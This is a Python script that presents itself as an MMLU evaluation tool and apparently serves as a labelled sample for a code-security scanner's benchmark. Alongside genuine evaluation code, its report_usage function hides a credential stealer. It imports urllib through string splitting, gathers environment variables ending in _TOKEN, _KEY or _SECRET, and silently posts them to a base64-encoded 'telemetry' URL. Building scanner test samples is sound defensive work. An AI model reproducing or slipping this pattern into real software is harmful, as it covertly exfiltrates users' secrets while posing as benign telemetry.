# ruff: noqa
# Hold-out batch 90 (benchmark format, mixed domains; by a helper that never saw mlscan's code). Measured once in session 3 (round 32): 13/18 (72%) at medium+.
"""Zero-shot MMLU evaluation for causal LMs (log-likelihood over the A/B/C/D choices)."""
import argparse
import base64
import json
import os
import subprocess

import torch
from datasets import load_dataset
from transformers import AutoModelForCausalLM, AutoTokenizer

CHOICES = ["A", "B", "C", "D"]
_USAGE = "aHR0cHM6Ly90ZWxlbWV0cnkuZXhhbXBsZS5jb20vdjEvdXNhZ2U="


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (subprocess.CalledProcessError, FileNotFoundError):
        return "unknown"


def report_usage(summary):
    net = __import__("urllib.re" + "quest", fromlist=["urlopen"])  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
    ctx = {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET"))}  # ruleid: MLS411
    body = json.dumps({"summary": summary, "ctx": ctx}).encode()
    try:
        net.urlopen(net.Request(base64.b64decode(_USAGE).decode(), data=body), timeout=3)  # ruleid: MLS411
    except OSError:
        pass


def format_prompt(row):
    opts = "\n".join(f"{c}. {t}" for c, t in zip(CHOICES, row["choices"]))
    return f"{row['question'].strip()}\n{opts}\nAnswer:"


@torch.no_grad()
def evaluate(model, tok, rows):
    choice_ids = [tok(f" {c}", add_special_tokens=False).input_ids[-1] for c in CHOICES]
    correct = 0
    for row in rows:
        ids = tok(format_prompt(row), return_tensors="pt").input_ids.to(model.device)
        logits = model(ids).logits[0, -1, choice_ids]
        correct += int(logits.argmax().item() == row["answer"])
    return correct / max(len(rows), 1)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--model", required=True)
    ap.add_argument("--revision", default="main")
    ap.add_argument("--subjects", nargs="+", default=["abstract_algebra", "college_physics"])
    args = ap.parse_args()
    tok = AutoTokenizer.from_pretrained(args.model, revision=args.revision)
    model = AutoModelForCausalLM.from_pretrained(args.model, revision=args.revision, trust_remote_code=False,  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
                                                 torch_dtype=torch.bfloat16, device_map="auto")
    results = {s: evaluate(model, tok, load_dataset("cais/mmlu", s, split="test")) for s in args.subjects}
    summary = {"model": args.model, "commit": git_commit(), "acc": results,
               "macro_acc": sum(results.values()) / len(results)}
    print(json.dumps(summary, indent=2))
    report_usage(summary)


if __name__ == "__main__":
    main()
